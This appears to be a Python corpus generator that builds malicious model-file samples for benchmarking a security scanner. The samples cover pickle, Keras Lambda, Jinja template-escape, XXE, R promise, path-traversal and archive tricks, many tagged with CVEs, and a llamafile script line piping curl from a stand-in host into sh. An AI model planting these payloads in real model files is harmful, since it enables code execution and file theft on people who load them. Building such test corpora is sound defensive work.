"""Malicious files of every format but plain pickle (bench/model_corpus.py)."""
import base64
import bz2
import io
import json
import lzma
import marshal
import struct
import subprocess
import tempfile
import zlib
from pathlib import Path

import model_builders as m
from model_malicious_pickles import CODE, Payload
from model_pickle import call, name, simple, value, whole

BAD = simple()
LAMBDA = base64.b64encode(marshal.dumps(compile("lambda x: __import__('os').system('true')", "sample", "eval").co_consts[0])).decode()
ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 64, 0, 0) + bytes(200)
PE = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + struct.pack("<HH", 0x8664, 1) + bytes(200)


def torch_zip(data=BAD, root="archive", extra=(), method=0, pkl="data.pkl"):
    return m.zip_of([(f"{root}/{pkl}", data), (f"{root}/byteorder", "little"), (f"{root}/data/0", bytes(64)), (f"{root}/version", "3\n"), *extra], method)


def torch_samples():
    good = whole(value({"w": [1.0]}))
    yield "zip", "torch-zip", torch_zip()
    yield "zip-deflated", "torch-zip", torch_zip(method=8)
    yield "zip-renamed-pickle", "torch-zip", torch_zip(good, extra=[("archive/weights.bin", BAD)])
    yield "zip-other-member", "torch-zip", torch_zip(good, extra=[("archive/extra.pkl", BAD)])
    yield "zip-two-data", "torch-zip", torch_zip(good, extra=[("archive/data.pkl", BAD)])
    yield "zip-constants", "torch-zip", torch_zip(good, extra=[("archive/constants.pkl", BAD)])
    yield "zip-second-root", "torch-zip", torch_zip(good, extra=[("other/data.pkl", BAD)])
    yield "zip-code-member", "torch-zip", torch_zip(good, extra=[("archive/code/__torch__.py", "import os\nos.system('true')\n"), ("archive/x.pkl", BAD)])
    raw = torch_zip()
    yield "zip-bad-crc", "zip-tampered", raw.replace(b"true", b"tru ", 1)
    for bit in (1, 0x20, 0x40):
        flagged = bytearray(raw)
        at = raw.find(b"PK\x01\x02")
        flagged[at + 8] |= bit
        yield f"zip-flag-{bit:#x}", "zip-tampered", bytes(flagged)
    local = raw.replace(b"archive/data.pkl", b"archive/datap.kl", 1)
    yield "zip-name-differs", "zip-tampered", local
    yield "zip-prefix", "zip-tampered", b"#!/bin/sh\nexit 0\n" + raw
    yield "zip-suffix", "zip-tampered", raw + b"\n" * 40
    yield "zip-no-directory", "zip-tampered", raw[:raw.find(b"PK\x01\x02")]
    yield "zip-polyglot-pickle", "zip-tampered", BAD + raw
    cut = bytearray(raw)
    end = raw.rfind(b"PK\x05\x06")
    struct.pack_into("<H", cut, end + 8, 0)
    struct.pack_into("<H", cut, end + 10, 0)
    yield "zip-empty-directory", "zip-tampered", bytes(cut)
    magic, version, info = (whole(b"\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19", 2), whole(value(1001, 2), 2),
                            whole(value({"little_endian": True, "protocol_version": 1001}, 2), 2))
    keys = whole(value([], 2), 2)
    bad2 = simple(proto=2)
    yield "legacy", "torch-legacy", magic + version + info + bad2 + keys
    yield "legacy-bad-magic", "torch-legacy", whole(value(12345, 2), 2) + version + info + bad2 + keys
    yield "legacy-eval-magic", "torch-legacy", whole(call("__builtin__", "eval", ("0x1950A86A20F9469CFC6C",), 2), 2) + version + info + bad2 + keys
    yield "legacy-last", "torch-legacy", magic + version + info + whole(value({}, 2), 2) + keys + bad2
    yield "legacy-tar", "torch-legacy", m.tar_of([("sys_info", info), ("pickle", bad2), ("tensors", b"N."), ("storages", b"N.")])


def joblib_samples():
    import joblib
    import lz4.frame
    import zstandard
    forms = (("raw", lambda d: d), ("zlib", zlib.compress), ("gzip", m.gz), ("bz2", bz2.compress),
             ("lzma", lambda d: lzma.compress(d, lzma.FORMAT_ALONE)), ("xz", lzma.compress), ("lz4", lz4.frame.compress),
             ("zstd", zstandard.ZstdCompressor().compress))
    for kind, press in forms:
        yield f"{kind}.joblib", f"joblib-{kind}", press(BAD)
        yield f"{kind}-other-name.pkl", f"joblib-{kind}", press(whole(value({"m": call("builtins", "exec", (CODE,))})))
    import numpy
    for kind in ("zlib", "gzip", "bz2", "lzma", "xz", "lz4"):
        out = io.BytesIO()
        joblib.dump({"coef": numpy.arange(64.0), "hook": Payload()}, out, compress=(kind, 3))
        data = out.getvalue()
        yield f"produced-{kind}.joblib", f"joblib-{kind}", data[:4] + bytes(4) + data[8:] if kind == "gzip" else data
    out = io.BytesIO()
    joblib.dump({"coef": numpy.arange(1000.0), "hook": Payload()}, out)
    yield "after-raw-buffer.joblib", "joblib-after-buffer", out.getvalue()
    out = io.BytesIO()
    joblib.dump([numpy.frombuffer(b"." * 4096, "u1"), numpy.zeros(100, "i4"), Payload()], out)
    yield "after-two-buffers.joblib", "joblib-after-buffer", out.getvalue()
    wrapper = (name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81" + value(
        {"subclass": name("numpy", "ndarray"), "shape": (1,), "order": "C", "dtype": call("numpy", "dtype", ("O",)), "allow_mmap": False}) + b"b")
    yield "object-array-buffer.joblib", "joblib-after-buffer", b"\x80\x04" + wrapper + BAD + b"."
    yield "gzip-in-zlib.joblib", "joblib-nested", zlib.compress(m.gz(BAD))


def numpy_samples():
    import numpy
    out = io.BytesIO()
    numpy.save(out, numpy.array([Payload()], dtype=object), allow_pickle=True)
    yield "object.npy", "npy-object", out.getvalue()
    for version in (1, 2, 3):
        yield f"object-v{version}.npy", "npy-object", m.npy(BAD, version=version)
    yield "object-named.bin", "npy-object", m.npy(BAD)
    yield "structured.npy", "npy-object", m.npy(BAD).replace(b"'descr': '|O', ", b"'descr': [('a', '|O')], ").replace(b"              \n", b"\n", 1)
    yield "archive.npz", "npz-object", m.zip_of([("x.npy", m.npy(bytes(8), "<f8")), ("y.npy", m.npy(BAD))])
    yield "archive-deflated.npz", "npz-object", m.zip_of([("y.npy", m.npy(BAD))], 8)
    yield "archive-pickle.npz", "npz-object", m.zip_of([("x.npy", m.npy(bytes(8), "<f8")), ("z.pkl", BAD)])
    yield "plain-pickle.npy", "npy-object", BAD
    yield "trailing.npy", "npy-object", m.npy(bytes(8), "<f8") + BAD


def layer(cls, where="keras.layers", /, **config):
    return {"module": where, "class_name": cls, "config": config, "registered_name": None}


def keras(*layers, **more):
    return {"module": "keras", "class_name": "Sequential", "config": {"name": "sequential", "layers": list(layers)}, **more}


def old_keras(*layers):
    return json.dumps({"class_name": "Sequential", "config": {"name": "sequential", "layers": list(layers)}})


def keras_samples():
    lam = layer("Lambda", name="l", function={"class_name": "__lambda__", "config": {"code": LAMBDA, "defaults": None, "closure": None}})
    yield "lambda.keras", "keras-lambda", m.keras_zip(keras(lam)), "CVE-2024-3660"
    call_os = {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"}
    yield "module-function.keras", "keras-module", m.keras_zip(keras(layer("Lambda", name="l", function=call_os, arguments={}))), "CVE-2025-1550"
    yield "class-module.keras", "keras-module", m.keras_zip(keras(layer("Popen", "subprocess", args=["true"]))), "CVE-2025-1550"
    yield "build-config-module.keras", "keras-module", m.keras_zip(keras({**layer("Dense", units=1), "build_config": {"x": call_os}})), "CVE-2025-1550"
    yield "compile-config.keras", "keras-module", m.keras_zip(keras(layer("Dense", units=1), compile_config={"loss": call_os})), "CVE-2025-1550"
    yield "internal-import.keras", "keras-module", m.keras_zip(keras(layer("Lambda", function={
        "module": "keras.src.utils.python_utils", "class_name": "function", "config": "func_load", "registered_name": "func_load"}))), "CVE-2025-8747"
    yield "get-file.keras", "keras-module", m.keras_zip(keras(layer("Lambda", function={
        "module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file"}, arguments={
            "fname": "x", "origin": "http://example.invalid/x", "extract": True}))), "CVE-2025-8747"
    unsafe = {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization", "registered_name": "enable_unsafe_deserialization"}
    yield "enable-unsafe.keras", "keras-unsafe-flag", m.keras_zip(keras(layer("Lambda", function=unsafe), lam)), "CVE-2025-9906"
    yield "torch-wrapper.keras", "keras-torch-wrapper", m.keras_zip(keras(layer("TorchModuleWrapper", "keras.layers", name="t", module=base64.b64encode(
        torch_zip()).decode()))), "CVE-2025-49655"
    yield "string-lookup.keras", "keras-file-access", m.keras_zip(keras(layer("StringLookup", vocabulary="/etc/passwd", name="s"))), "CVE-2025-12058"
    yield "string-lookup-url.keras", "keras-file-access", m.keras_zip(keras(layer("StringLookup", vocabulary="http://example.invalid/v", name="s"))), "CVE-2025-12058"
    yield "member-traversal.keras", "keras-archive", m.keras_zip(keras(layer("Dense", units=1)), [("assets/../../../../tmp/x", b"x")]), "generated"
    yield "pickle-member.keras", "keras-archive", m.keras_zip(keras(layer("Dense", units=1)), [("assets/state.pkl", BAD)]), "generated"
    old = {"class_name": "Lambda", "config": {"name": "l", "function": [LAMBDA, None, None], "function_type": "lambda"}}
    yield "lambda.h5", "h5-lambda", m.h5({"model_config": old_keras(old), "keras_version": "2.11.0", "backend": "tensorflow"}), "CVE-2024-3660"
    yield "lambda-bytes.h5", "h5-lambda", m.h5({"model_config": old_keras(old).encode(), "keras_version": "2.4.0"}), "CVE-2024-3660"
    yield "lambda-nested.h5", "h5-lambda", m.h5({"model_config": old_keras({"class_name": "TimeDistributed", "config": {"layer": old}})}), "CVE-2024-3660"
    yield "lambda-renamed.bin", "h5-lambda", m.h5({"model_config": old_keras(old)}), "CVE-2025-9905"
    yield "lambda-function.h5", "h5-lambda", m.h5({"model_config": old_keras({"class_name": "Lambda", "config": {
        "function": "system", "module": "os", "function_type": "function"}})}), "CVE-2024-3660"
    yield "loss-lambda.h5", "h5-lambda", m.h5({"model_config": old_keras(), "training_config": json.dumps({"loss": {
        "class_name": "__lambda__", "config": {"code": LAMBDA}}})}), "CVE-2025-9905"
    yield "config/config.json", "keras-lambda", json.dumps(keras(lam)).encode(), "CVE-2024-3660"
    yield "metadata-in-gzip.keras.gz", "keras-lambda", m.gz(m.keras_zip(keras(lam))), "generated"


def tensorflow_samples():
    for op in ("ReadFile", "WriteFile", "PyFunc", "EagerPyFunc", "PyFuncStateless", "MatchingFiles"):
        nodes = [m.const_text("path", "/tmp/vedette-sample"), m.node_def("n", op, ["path"])]
        yield f"{op}/saved_model.pb", f"savedmodel-{op}", m.saved_model(nodes)
    inside = [("inner", [m.node_def("w", "WriteFile", ["a", "b"])])]
    yield "in-function/saved_model.pb", "savedmodel-WriteFile", m.saved_model([m.node_def("p", "PartitionedCall")], inside)
    yield "frozen.pb", "graphdef-PyFunc", m.graph_def([m.node_def("x", "Placeholder"), m.node_def("p", "PyFunc", ["x"], [("token", m.pb((2, "pyfunc_0")))])])
    yield "frozen-read.pb", "graphdef-ReadFile", m.graph_def([m.const_text("f", "/etc/passwd"), m.node_def("r", "ReadFile", ["f"])])
    yield "print-file/saved_model.pb", "savedmodel-PrintV2", m.saved_model([m.const_text("t", "x"), m.node_def("p", "PrintV2", ["t"], [
        ("output_stream", m.pb((2, "file:///tmp/vedette-sample")))])])
    yield "keras-metadata/keras_metadata.pb", "savedmodel-lambda", m.pb((1, m.pb((2, 1), (3, "root.layer"), (4, "_tf_keras_layer"), (5, json.dumps(
        {"class_name": "Lambda", "config": {"function": {"class_name": "__tuple__", "items": [LAMBDA, None, None]}, "function_type": "lambda"}})))))


def onnx_samples():
    import onnx
    from onnx import TensorProto, helper

    def model(location=None, domain="", op="Add", more=(), metadata=()):
        weight = helper.make_tensor("w", TensorProto.FLOAT, [2], [1.0, 2.0])
        if location:
            weight = TensorProto(name="w", data_type=1, dims=[2], data_location=TensorProto.EXTERNAL)
            for k, v in (("location", location), *more):
                weight.external_data.add(key=k, value=v)
        node = helper.make_node(op, ["x", "w"], ["y"], domain=domain, name="n")
        info = [helper.make_tensor_value_info(n, TensorProto.FLOAT, [2]) for n in "xy"]
        made = helper.make_model(helper.make_graph([node], "g", info[:1], info[1:], [weight]), producer_name="sample")
        for k, v in metadata:
            made.metadata_props.add(key=k, value=v)
        return made.SerializeToString()
    for what, path in (("traversal", "../../../../etc/passwd"), ("absolute", "/etc/passwd"), ("backslash", "..\\..\\secret"),
                       ("mid-traversal", "data/../../../secret"), ("drive", "C:\\Windows\\win.ini"), ("proc", "/proc/self/environ"),
                       ("nul", "ok\0/../../etc/passwd")):
        yield f"external-{what}.onnx", "onnx-external-data", model(path), "CVE-2022-25882" if "ackslash" not in what else "CVE-2024-27318"
    yield "external-renamed.bin", "onnx-external-data", model("../../../../etc/passwd"), "CVE-2024-27318"
    yield "python-op.onnx", "onnx-python-op", model(domain="ai.onnx.contrib", op="PyOp"), "modelaudit tests"
    yield "aten-python.onnx", "onnx-python-op", model(domain="com.microsoft", op="PythonOp", metadata=[("func_name", "os.system")]), "generated"


def other_samples():
    nothing = {"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}
    yield "safetensors/elf-appended.safetensors", "safetensors-appended", "safetensors", m.safetensors(nothing, bytes(16) + ELF)
    yield "safetensors/pe-appended.safetensors", "safetensors-appended", "safetensors", m.safetensors(nothing, bytes(16) + PE)
    yield "safetensors/script-appended.safetensors", "safetensors-appended", "safetensors", m.safetensors(nothing, bytes(16) + b"#!/bin/sh\ntrue\n")
    yield "safetensors/pickle-appended.safetensors", "safetensors-appended", "safetensors", m.safetensors(nothing, bytes(16) + BAD)
    yield "safetensors/zip-appended.safetensors", "safetensors-appended", "safetensors", m.safetensors(nothing, bytes(16) + torch_zip())
    yield "safetensors/elf-in-tensor.safetensors", "safetensors-payload", "safetensors", m.safetensors(
        {"w": {"dtype": "U8", "shape": [len(ELF)], "data_offsets": [0, len(ELF)]}}, ELF)
    yield "safetensors/overlap.safetensors", "safetensors-overlap", "safetensors", m.safetensors(
        {"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}, "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]}}, bytes(24))
    yield "safetensors/duplicate.safetensors", "safetensors-duplicate", "safetensors", m.safetensors(
        b'{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"w":{"dtype":"F32","shape":[4],"data_offsets":[16,32]}}', bytes(32))
    yield "safetensors/out-of-bounds.safetensors", "safetensors-bounds", "safetensors", m.safetensors(
        {"w": {"dtype": "F32", "shape": [400], "data_offsets": [0, 1600]}}, bytes(16))
    yield "safetensors/header-too-long.safetensors", "safetensors-bounds", "safetensors", m.safetensors(nothing, bytes(16), 1 << 40)
    yield "safetensors/shape-overflow.safetensors", "safetensors-bounds", "safetensors", m.safetensors(
        {"w": {"dtype": "F32", "shape": [1 << 62, 8], "data_offsets": [0, 16]}}, bytes(16))
    evil = "{{ ''.__class__.__mro__[1].__subclasses__() }}"
    base = {"general.architecture": "llama", "general.name": "sample"}
    templates = {"class-walk": evil, "cycler": "{{ cycler.__init__.__globals__.os.popen('true').read() }}",
                 "request": "{{ lipsum.__globals__['os'].system('true') }}",
                 "attr-filter": "{{ ''|attr('__class__')|attr('__base__')|attr('__subclasses__')() }}",
                 "hex": "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}", "in-loop": "{% for m in messages %}{{ m.content }}{% endfor %}" + evil,
                 "namespace": "{{ namespace.__init__.__globals__.__builtins__.eval(\"1\") }}"}
    for what, t in templates.items():
        yield f"gguf/template-{what}.gguf", "chat-template", "gguf", m.gguf({**base, "tokenizer.chat_template": t}), "CVE-2024-34359"
        yield f"template/{what}/tokenizer_config.json", "chat-template", "huggingface", json.dumps(
            {"tokenizer_class": "LlamaTokenizer", "chat_template": t}).encode(), "CVE-2024-34359"
    yield "template/jinja/chat_template.jinja", "chat-template", "jinja", evil.encode(), "CVE-2024-34359"
    yield "template/named/tokenizer_config.json", "chat-template", "huggingface", json.dumps(
        {"chat_template": [{"name": "default", "template": "{{ messages }}"}, {"name": "tool_use", "template": evil}]}).encode(), "CVE-2024-34359"
    yield "gguf/tensor-count.gguf", "gguf-bounds", "gguf", m.gguf(base, counts=(1 << 61, 2)), "CVE-2024-21836"
    yield "gguf/kv-count.gguf", "gguf-bounds", "gguf", m.gguf(base, counts=(0, 1 << 60)), "CVE-2024-23605"
    yield "gguf/string-length.gguf", "gguf-bounds", "gguf", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", (1 << 64) - 1) + b"general", "CVE-2024-23496"
    yield "gguf/array-length.gguf", "gguf-bounds", "gguf", m.gguf({}, counts=(0, 1))[:24] + m.gguf_text("a") + struct.pack("<IIQ", 9, 4, 1 << 62), "CVE-2024-21825"
    yield "gguf/tensor-dimensions.gguf", "gguf-bounds", "gguf", m.gguf(base, [("w", (1 << 40, 1 << 40), 0, 0)], bytes(64)), "CVE-2024-21802"
    yield "gguf/tensor-offset.gguf", "gguf-bounds", "gguf", m.gguf(base, [("w", (16,), 0, 1 << 50)], bytes(64)), "generated"
    yield "gguf/rank.gguf", "gguf-bounds", "gguf", m.gguf(base, counts=(1, 2))[:-8] + m.gguf_text("w") + struct.pack("<I", 4000) + bytes(64), "CVE-2024-21802"
    yield "tflite/flex.tflite", "tflite-flex", "tflite", m.tflite([0, "FlexWriteFile"])
    yield "tflite/flex-read.tflite", "tflite-flex", "tflite", m.tflite(["FlexReadFile", 9])
    yield "tflite/flex-pyfunc.bin", "tflite-flex", "tflite", m.tflite(["FlexPyFunc"])
    nodes = [{"__class__": "OperatorFuncNode", "__module__": "operator", "__id__": 1, "__loader__": "OperatorFuncNode", "class": "attrgetter",
              "attrs": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": [
                  {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": '"system"', "is_json": True}]}},
             {"__class__": "MethodNode", "__module__": "builtins", "__loader__": "MethodNode", "content": {
                 "func": "system", "obj": {"__class__": "module", "__module__": "os", "__loader__": "TypeNode", "content": "os"}}},
             {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "content": {"module_path": "os", "function": "system"}},
             {"__class__": "system", "__module__": "os", "__loader__": "ReduceNode", "reduce": {}, "content": {}}]
    for node, cve in zip(nodes, ("CVE-2025-54412", "CVE-2025-54413", "generated", "CVE-2024-37065")):
        schema = json.dumps({**node, "protocol": 2, "_skops_version": "0.11.0"})
        yield f"skops/{node['__loader__']}.skops", "skops-unsafe-node", "skops", m.zip_of([("schema.json", schema)]), cve
    yield "skops/card-joblib.skops", "skops-joblib-fallback", "skops", BAD, "CVE-2025-54886"
    yield "skops/pickle-member.skops", "skops-joblib-fallback", "skops", m.zip_of([("schema.json", json.dumps(
        {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "protocol": 2, "_skops_version": "0.11.0"})), ("x.pkl", BAD)])
    pmml = '<?xml version="1.0"?>\n{}<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header/><DataDictionary>{}</DataDictionary></PMML>'
    for what, doc, body in (("file", '<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n', "&x;"),
                            ("parameter", '<!DOCTYPE p [<!ENTITY % x SYSTEM "http://example.invalid/x.dtd"> %x;]>\n', ""),
                            ("billion", '<!DOCTYPE p [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>\n', "&c;"),
                            ("doctype-system", '<!DOCTYPE PMML SYSTEM "http://example.invalid/pmml.dtd">\n', "")):
        yield f"pmml/xxe-{what}.pmml", "pmml-xxe", "pmml", pmml.format(doc, body).encode()
    promise = m.rds(m.r_promise(m.r_call("system", "true")))
    yield "r/promise.rds", "rds-promise", "r", m.gz(promise), "CVE-2024-27322"
    yield "r/promise-raw.rds", "rds-promise", "r", promise, "CVE-2024-27322"
    yield "r/promise-xz.rds", "rds-promise", "r", lzma.compress(promise), "CVE-2024-27322"
    yield "r/promise-bz2.rds", "rds-promise", "r", bz2.compress(promise), "CVE-2024-27322"
    listed = m.rds(struct.pack(">II", 19, 1) + m.r_promise(m.r_call("shell", "true")))
    yield "r/promise-in-list.rds", "rds-promise", "r", m.gz(listed), "CVE-2024-27322"
    mlmodel = "flavors:\n  python_function:\n    loader_module: {}\n    python_version: 3.11.2\n    env: conda.yaml\n{}model_uuid: 0123456789abcdef0123456789abcdef\n"
    yield "mlflow/loader-os/MLmodel", "mlmodel-loader", "mlflow", mlmodel.format("os", "").encode()
    yield "mlflow/loader-subprocess/MLmodel", "mlmodel-loader", "mlflow", mlmodel.format("subprocess", "    data: ../../../../etc\n").encode()
    yield "mlflow/yaml-tag/MLmodel", "mlmodel-yaml", "mlflow", b"flavors: !!python/object/apply:os.system ['true']\n"
    yield "mlflow/pickled/python_model.pkl", "mlmodel-pickle", "mlflow", BAD
    config = {"model_type": "x", "_target_": "os.system", "command": "true"}
    hydra = "target: nemo.core.Model\nmodel:\n  _target_: os.system\n  command: 'true'\n"
    yield "nemo/target.nemo", "nemo-target", "nemo", m.gz(m.tar_of([("./model_config.yaml", hydra.encode()), ("./model_weights.ckpt", torch_zip(whole(value({}))))])), "CVE-2025-23304"
    yield "nemo/target-plain.nemo", "nemo-target", "nemo", m.tar_of([("model_config.yaml", hydra.replace("os.system", "builtins.eval").encode())]), "CVE-2025-23304"
    yield "nemo/weights.nemo", "nemo-weights", "nemo", m.gz(m.tar_of([("./model_config.yaml", b"target: nemo.core.Model\n"), ("./model_weights.ckpt", torch_zip())])), "CVE-2025-23304"
    yield "nemo/subprocess.nemo", "nemo-target", "nemo", m.gz(m.tar_of([("model_config.yaml", b"a:\n  - _target_: subprocess.Popen\n    args: ['true']\n")])), "CVE-2025-23304"
    yield "hydra/config.json", "config-target", "huggingface", json.dumps(config).encode(), "generated"
    yield "msgpack/pickle-ext.msgpack", "msgpack-pickle", "msgpack", b"\x81\xa6params\xc7" + bytes([len(BAD)]) + b"\x2a" + BAD
    yield "msgpack/pickle-bytes.msgpack", "msgpack-pickle", "msgpack", b"\x82\xa6params\x90\xa4hook\xc4" + bytes([len(BAD)]) + BAD
    yield "llamafile/script.llamafile", "llamafile-script", "llamafile", b"MZqFpD='\n" + bytes(40) + b"\n'\nrm -rf /tmp/vedette-sample; curl http://example.invalid | sh\nexit 0\n" + bytes(64) + m.gguf(
        {**base, "tokenizer.chat_template": evil})
    yield "paddle/model.pdparams", "pickle-paddle", "paddle", simple(proto=2)
    yield "paddle/op.pdmodel", "paddle-py-func", "paddle", m.pb((1, m.pb((1, 0), (2, 0xffffffffffffffff), (4, m.pb((3, "py_func"))))), (4, m.pb((1, 0))))
    yield "mxnet/custom-symbol.json", "mxnet-custom-op", "mxnet", json.dumps({"nodes": [{"op": "Custom", "name": "x", "attrs": {
        "op_type": "os.system"}, "inputs": []}], "arg_nodes": [0], "heads": [[0, 0, 0]], "attrs": {"mxnet_version": ["int", 10900]}}).encode()
    yield "openvino/extension.xml", "openvino-xxe", "openvino", b'<?xml version="1.0"?>\n<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<net name="m" version="11"><layers><layer id="0" name="&x;" type="Parameter" version="opset1"/></layers></net>'
    yield "xgboost/pickled.model", "pickle-xgboost", "xgboost", whole(call("xgboost.core", "Booster", ()) + b"0" + call("posix", "system", ("true",)))


def archive_samples():
    yield "zip-pickle.zip", "archive", m.zip_of([("data.pkl", BAD)])
    yield "zip-odd-suffix.zip", "archive", m.zip_of([("notes.txt", BAD)], 8)
    yield "tar-pickle.tar", "archive", m.tar_of([("model/data.pkl", BAD)])
    yield "tar.gz", "archive", m.gz(m.tar_of([("model.bin", BAD)]))
    yield "tar.xz", "archive", lzma.compress(m.tar_of([("model.bin", BAD)]))
    yield "tar.bz2", "archive", bz2.compress(m.tar_of([("model.bin", BAD)]))
    yield "zip-in-tar.tar.gz", "archive-nested", m.gz(m.tar_of([("a/model.zip", m.zip_of([("data.pkl", BAD)], 8))]))
    deep = BAD
    for i in range(5):
        deep = m.zip_of([(f"level{i}.zip" if i else "data.pkl", deep)], 8)
    yield "five-zips.zip", "archive-nested", deep
    yield "gzip-pickle.pkl.gz", "archive", m.gz(BAD)
    yield "xz-pickle.pkl.xz", "archive", lzma.compress(BAD)
    yield "zip-traversal.zip", "archive-traversal", m.zip_of([("../../../../tmp/vedette-sample", b"x"), ("config.json", b"{}")])
    yield "tar-traversal.tar", "archive-traversal", m.tar_of([("../../tmp/vedette-sample", b"x")])
    yield "tar-symlink.tar", "archive-traversal", m.tar_of([("x", b"x")], ("link", "/etc/passwd"))
    yield "zip-lzma.zip", "archive", m.zip_of([("data.pkl", BAD)], 14)
    yield "zip-bzip2.zip", "archive", m.zip_of([("data.pkl", BAD)], 12)
    yield "wheel-with-pickle-1.0-py3-none-any.whl", "archive", m.zip_of([("wheel/model.pkl", BAD), ("wheel-1.0.dist-info/METADATA", "Name: wheel\n")], 8)
    mar = m.zip_of([("MAR-INF/MANIFEST.json", '{"model": {"modelName": "m", "handler": "handler.py", "serializedFile": "m.pt"}}'), ("m.pt", torch_zip())], 8)
    yield "torchserve.mar", "archive-nested", mar
    with tempfile.TemporaryDirectory() as folder:
        Path(folder, "in.tar").write_bytes(m.tar_of([("data.pkl", BAD)]))  # of a tar, since files have times of their own
        for method in ("store", "lzma1", "lzma2", "deflate", "bzip2", "ppmd"):
            subprocess.run(["bsdtar", "--format", "7zip", "--options", f"compression={method}", "-cf", "x.7z", "@in.tar"],
                           cwd=folder, check=True, capture_output=True)
            yield f"7z-{method}.7z", "archive-7z", Path(folder, "x.7z").read_bytes()


def dataset_samples():
    import pickle
    import pandas
    frame = pandas.DataFrame({"a": [1, 2], "b": [Payload(), Payload()]})
    yield "frame.pkl", "dataset-pickle", pickle.dumps(frame, 4)
    yield "frame.pkl.gz", "dataset-pickle", m.gz(pickle.dumps(frame, 5))
    yield "rows.pickle", "dataset-pickle", pickle.dumps([{"image": bytes(100), "label": 3}] * 4 + [{"image": Payload()}], 2)
    yield "cache.pkl", "dataset-pickle", b"".join(pickle.dumps({"x": i}) for i in range(4)) + pickle.dumps(Payload())


def add_formats(out):
    for what, technique, data in torch_samples():
        out.add(f"torch/{what}.pt", data, "malicious", technique, "torch")
    for fmt, samples in (("joblib", joblib_samples()), ("numpy", numpy_samples()), ("tensorflow", tensorflow_samples()), ("archive", archive_samples()),
                         ("dataset", dataset_samples())):
        for what, technique, data in samples:
            out.add(f"{fmt}/{what}", data, "malicious", technique, fmt)
    for fmt, samples in (("keras", keras_samples()), ("onnx", onnx_samples())):
        for what, technique, data, source in samples:
            out.add(f"{fmt}/{what}", data, "malicious", technique, fmt, source)
    for what, technique, fmt, data, *source in other_samples():
        out.add(what, data, "malicious", technique, fmt, *source)
